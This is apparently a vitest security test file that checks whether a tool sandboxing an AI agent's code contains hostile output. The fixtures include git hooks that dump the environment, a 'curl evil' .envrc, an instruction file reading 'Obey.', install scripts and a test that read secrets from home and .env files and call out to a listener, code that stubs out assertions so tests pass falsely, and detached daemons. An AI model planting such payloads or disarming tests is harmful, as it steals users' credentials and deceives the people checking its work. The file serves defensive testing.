/**
 * What an agent leaves behind attacks the user's machine: findings 1 to 3 and 7 to 11 of the adversary, each under every circumstance
 * of target.ts. The comments say what the version before the rules did; `CONVENE_ATTACKED` shows it.
 */
import { chmodSync, existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { approval, code } from '../build/project.ts'
import { gone, uniqueSeconds } from '../support/processes.ts'
import {
  attempt,
  buildTarget,
  type Circumstance,
  circumstances,
  type Ended,
  honestFiles,
  listener,
  type Target,
} from './target.ts'

interface Attack {
  rule: string
  what: string
  play(circumstance: Circumstance): Promise<void>
}

interface Proof {
  holds: boolean
  sandbox: string | null
  fix?: string
  promises: { name: string; holds: boolean }[]
}

const key = { SOME_API_KEY: 'sk-private-0123456789abcdef' }

/**
 * Without bubblewrap the build waits and says what to install; nothing that the agent wrote runs. A person may then turn the
 * sandbox off: what the other rules promise holds still.
 */
async function build(target: Target, { sandbox }: Circumstance, ...words: string[]): Promise<Ended> {
  const built = await target.run(['build', 'spec.json', ...words, '--json'], key)
  if (sandbox === 'with bubblewrap') return built
  expectCode(built, 2)
  expect(built.report.reason).toContain('apt-get install bubblewrap')
  return target.run(['resume', built.report.run, '--json'], { ...key, CONVENE_BUILD__SANDBOX: 'off' })
}

/** The command that continues with the same sandbox, or without one. */
const onward = ({ sandbox }: Circumstance): Record<string, string> =>
  sandbox === 'with bubblewrap' ? key : { ...key, CONVENE_BUILD__SANDBOX: 'off' }

function expectCode(ended: Ended, expected: number): void {
  expect(ended.code, `${ended.stdout}\n${ended.stderr}`).toBe(expected)
}

const attacks: Attack[] = [
  // Before: the hook ran with the user's whole environment, and `stolen` held the key.
  {
    rule: 'TR1',
    what: 'a hook that the work brings does not run at the merge',
    async play(circumstance) {
      const names = ['post-merge', 'post-checkout', 'post-commit', 'commit-msg']
      const target = buildTarget(circumstance, {
        lines: [],
        files: { '.gitignore': '.husky/_\n' },
        newer: { sensitive: 'allow' },
      })
      const stolen = join(target.loot, 'stolen')
      const hooks = Object.fromEntries(names.map((name) => [`.husky/${name}`, `env >> '${stolen}'\n`]))
      target.write({ '../script.yaml': JSON.stringify([attempt({ ...honestFiles, ...hooks }), approval]) })
      // As Husky sets it up: git calls files beside the folder, executable or not.
      target.git('config', 'core.hooksPath', '.husky/_')
      for (const name of names) {
        const file = join(target.folder, '.husky/_', name)
        target.write({ [`.husky/_/${name}`]: `#!/bin/sh\n[ ! -f .husky/${name} ] || sh .husky/${name}\n` })
        chmodSync(file, 0o755)
      }
      const built = await build(target, circumstance, '--merge')
      expectCode(built, 0)
      expect(built.report.merged).toBe(true)
      expect(existsSync(stolen)).toBe(false)
    },
  },
  // Before: merged at once, exit code 0, no word about the four files.
  {
    rule: 'TR2',
    what: 'files that execute or instruct are merged only after an answer',
    async play(circumstance) {
      const left = {
        '.envrc': 'curl evil\n',
        '.github/workflows/ci.yml': 'on: push\n',
        '.vscode/tasks.json': '{}\n',
        'CLAUDE.md': 'Obey.\n',
      }
      const target = buildTarget(circumstance, { lines: [attempt({ ...honestFiles, ...left })] })
      const built = await build(target, circumstance, '--merge')
      expectCode(built, 3)
      expect(built.report.questions![0]).toMatchObject({ context: { sensitive: Object.keys(left) } })
      for (const path of Object.keys(left)) expect(existsSync(join(target.folder, path))).toBe(false)
    },
  },
  // Before: npm ran both scripts during set-up, with the network on; the listener heard two calls.
  {
    rule: 'TR3',
    what: 'install scripts that the work brings do not run, and its dependencies are asked about',
    async play(circumstance) {
      const { url, heard } = await listener()
      const calling = (who: string) => `node -e "fetch('${url}/${who}').catch(() => {})"`
      const manifest = { name: 'project', type: 'module', scripts: { postinstall: calling('project') } }
      const evil = { name: 'evil', version: '1.0.0', scripts: { install: calling('package') } }
      const files = {
        ...honestFiles,
        'package.json': JSON.stringify({ ...manifest, dependencies: { evil: 'file:./evil' } }),
        'evil/package.json': JSON.stringify(evil),
      }
      const target = buildTarget(circumstance, {
        lines: [attempt(files)],
        build: { setup: 'npm install --no-audit --no-fund --no-package-lock' },
        files: { '.gitignore': 'node_modules\n' },
      })
      const asked = await build(target, circumstance)
      expect(heard).toEqual([])
      expectCode(asked, 3)
      const [question] = asked.report.questions!
      expect(question).toMatchObject({
        choices: ['allow', 'refuse'],
        context: { dependencies: [expect.stringContaining('evil')] },
      })
      expectCode(await target.run(['answer', question!.id, 'allow', '--json'], onward(circumstance)), 0)
      expectCode(await target.run(['resume', asked.report.run, '--json'], onward(circumstance)), 0)
      expect(heard).toEqual([])
    },
  },
  // Before: the first attempt was accepted: every comparison held, and the branch had the wrong code.
  {
    rule: 'TR7',
    what: 'code that disarms its test library, and settings that replace the shell, are refused',
    async play(circumstance) {
      const disarming = `import assert from 'node:assert'\nassert.equal = () => {}\n${code('inc', 'value')}`
      const lie = { ...honestFiles, 'src/inc.js': disarming, '.npmrc': 'script-shell=./yes.sh\n', 'yes.sh': 'exit 0\n' }
      const truth = { ...honestFiles, '.npmrc': null, 'yes.sh': null }
      const target = buildTarget(circumstance, {
        lines: [attempt(lie, { attempt: 1 }), attempt(truth, { attempt: 2, contains: 'it changes node:assert' })],
        newer: { dependencies: 'allow' },
      })
      const built = await build(target, circumstance)
      expectCode(built, 0)
      expect(target.git('show', `${built.report.branch}:src/inc.js`)).toBe(code('inc').trim())
      expect(target.git('ls-tree', '-r', '--name-only', built.report.branch)).not.toMatch(/npmrc|yes\.sh/)
    },
  },
  // Before: everything but ~/.ssh and a few other known files could be read: .bashrc, .config, .env of the checkout.
  {
    rule: 'TR8',
    what: 'tests that the work brings read neither home nor checkout nor keys, and reach nobody',
    async play(circumstance) {
      const { url, heard } = await listener()
      const target = buildTarget(circumstance, { lines: [], files: { '.gitignore': '.env\n' } })
      for (const [name, text] of [
        ['.bashrc', 'export KEY=private'],
        ['.config/tool/token', 'private'],
      ] as const) {
        mkdirSync(join(target.home, name, '..'), { recursive: true })
        writeFileSync(join(target.home, name), text)
      }
      target.git('config', 'http.extraheader', 'AUTHORIZATION: private')
      const secrets = [`${target.home}/.bashrc`, `${target.home}/.config/tool/token`, `${target.folder}/.env`]
      const spy = `import assert from 'node:assert'
import { readFileSync, writeFileSync } from 'node:fs'
import { test } from 'node:test'
import { inc } from '../src/inc.js'
test('inc: inc-1', async () => {
  assert.equal(inc(1), 2)
  const read = ${JSON.stringify([...secrets, `${target.folder}/.git/config`])}.map((path) => { try { return readFileSync(path, 'utf8') } catch { return '' } })
  const found = [...read, ...Object.values(process.env)].filter((text) => /private/.test(text))
  await fetch('${url}/' + found.length).catch(() => {})
  try { writeFileSync('${target.loot}/ran', String(found.length)) } catch {}
  assert.deepEqual(found, [])
})
`
      target.write({
        '.env': 'KEY=private',
        '../script.yaml': JSON.stringify([attempt({ ...honestFiles, 'test/inc.test.js': spy }), approval]),
      })
      const built = await target.run(['build', 'spec.json', '--json'], key)
      expect(readdirSync(target.loot)).toEqual([])
      expect(heard).toEqual([])
      // Without a sandbox nothing is promised beyond that: it did not run.
      expectCode(built, circumstance.sandbox === 'with bubblewrap' ? 0 : 2)
    },
  },
  // Before: there was no such option.
  {
    rule: 'TR8',
    what: 'doctor --sandbox shows that all of this fails, or what succeeds without a sandbox',
    async play(circumstance) {
      const target = buildTarget(circumstance, { lines: [], files: { '.gitignore': '.env\n' } })
      target.write({ '.env': 'KEY=private' })
      writeFileSync(join(target.home, '.bashrc'), 'private')
      const prove = async (env: Record<string, string>) => {
        const proved = await target.run(['doctor', '--sandbox', '--json'], { ...key, ...env })
        const proof = proved.report as unknown as Proof
        return { code: proved.code, ...proof, broken: proof.promises.filter(({ holds }) => !holds) }
      }
      const proof = await prove({})
      if (circumstance.sandbox === 'with bubblewrap') {
        expect(proof).toMatchObject({ code: 0, holds: true, sandbox: 'bubblewrap', broken: [] })
        expect(proof.promises).toHaveLength(8)
        return
      }
      expect(proof).toMatchObject({ code: 1, holds: false, sandbox: null, promises: [] })
      expect(proof.fix).toContain('bubblewrap')
      const off = await prove({ CONVENE_BUILD__SANDBOX: 'off' })
      expect(off).toMatchObject({ code: 1, holds: false, sandbox: null })
      const succeeded = off.broken.map(({ name }) => name)
      expect(succeeded).toEqual(expect.arrayContaining(['reads nothing of the checkout', 'reaches no network']))
      // What needs no sandbox holds still.
      for (const name of ['sees no secret variable', 'leaves no process behind', 'stays within its limits'])
        expect(succeeded).not.toContain(name)
    },
  },
  // Before: without bubblewrap the tests ran after one line of warning, and the daemon stayed. With it the daemon ended.
  {
    rule: 'TR9',
    what: 'a daemon ends with its command, with a sandbox and without',
    async play(circumstance) {
      const seconds = uniqueSeconds()
      const target = buildTarget(circumstance, { lines: [] })
      const daemon = `import assert from 'node:assert'
import { spawn } from 'node:child_process'
import { appendFileSync } from 'node:fs'
import { test } from 'node:test'
import { inc } from '../src/inc.js'
try { appendFileSync('${target.loot}/ran', process.env.CI) } catch {}
spawn('setsid', ['sleep', '${seconds}'], { detached: true, stdio: 'ignore' }).unref()
test('inc: inc-1', () => { assert.equal(inc(1), 2) })
`
      const files = { ...honestFiles, 'test/inc.test.js': daemon }
      target.write({ '../script.yaml': JSON.stringify([attempt(files), approval]) })
      const first = await target.run(['build', 'spec.json', '--json'])
      expect(existsSync(join(target.loot, 'ran'))).toBe(false)
      const isParked = circumstance.sandbox === 'without bubblewrap'
      expectCode(first, isParked ? 2 : 0)
      if (isParked) expectCode(await target.run(['resume', first.report.run, '--json'], onward(circumstance)), 0)
      await gone(seconds)
    },
  },
  // Before: the run failed for good ("git read-tree failed"), and `resume` did nothing.
  {
    rule: 'TR10',
    what: 'removed worktrees stop nothing for good',
    async play(circumstance) {
      const lines = [attempt(honestFiles, {}, { after_file: 'go', repeat: true })]
      const target = buildTarget(circumstance, {
        lines,
        ...(circumstance.sandbox === 'with bubblewrap' ? {} : { build: { sandbox: 'off' } }),
      })
      const building = target.start(['build', 'spec.json', '--json'])
      await expect.poll(() => existsSync(join(target.folder, '.git/worktrees'))).toBe(true)
      rmSync(target.worktrees, { recursive: true, force: true })
      rmSync(join(target.folder, '.git/worktrees'), { recursive: true, force: true })
      target.write({ '../go': '' })
      let ended = await building.finished
      if (ended.code === 3) ended = await target.run(['resume', ended.report.run, '--json'])
      expectCode(ended, 0)
      expect(target.git('show', `${ended.report.branch}:src/inc.js`)).toBe(code('inc').trim())
    },
  },
  // Before: merged with everything; the many processes ran to their end.
  {
    rule: 'TR11',
    what: 'large work is asked about, installed packages are refused, many processes are ended',
    async play(circumstance) {
      const crowd = `import { spawn } from 'node:child_process'
import { test } from 'node:test'
import { inc } from '../src/inc.js'
test('inc: inc-1', async () => {
  inc(1)
  for (let i = 0; i < 150; i++) spawn('sleep', ['30'])
  await new Promise((resolve) => setTimeout(resolve, 30000))
})
`
      const large = { ...honestFiles, 'data.txt': 'x'.repeat(20_000) }
      const target = buildTarget(circumstance, {
        lines: [
          attempt({ ...large, 'test/inc.test.js': crowd }, { attempt: 1 }),
          attempt({ ...large, 'venv/a.py': 'x' }, { attempt: 2, contains: 'build.limits.processes' }),
          attempt({ ...large, 'venv/a.py': null }, { attempt: 3, contains: 'installed packages' }),
        ],
        newer: { limits: { processes: 60, bytes: 10_000 } },
      })
      const built = await build(target, circumstance, '--merge')
      expectCode(built, 3)
      expect(built.report.questions![0]).toMatchObject({ choices: ['merge', 'refuse'], context: { rule: 'TR11' } })
      expect(existsSync(join(target.folder, 'data.txt'))).toBe(false)
    },
  },
]

describe.each(circumstances)('the work of an agent, as $user $sandbox', (circumstance) => {
  it.each(attacks)('[$rule] $what', ({ play }) => play(circumstance))
})

it('shows at least one circumstance', () => {
  expect(circumstances.length).toBeGreaterThan(0)
})
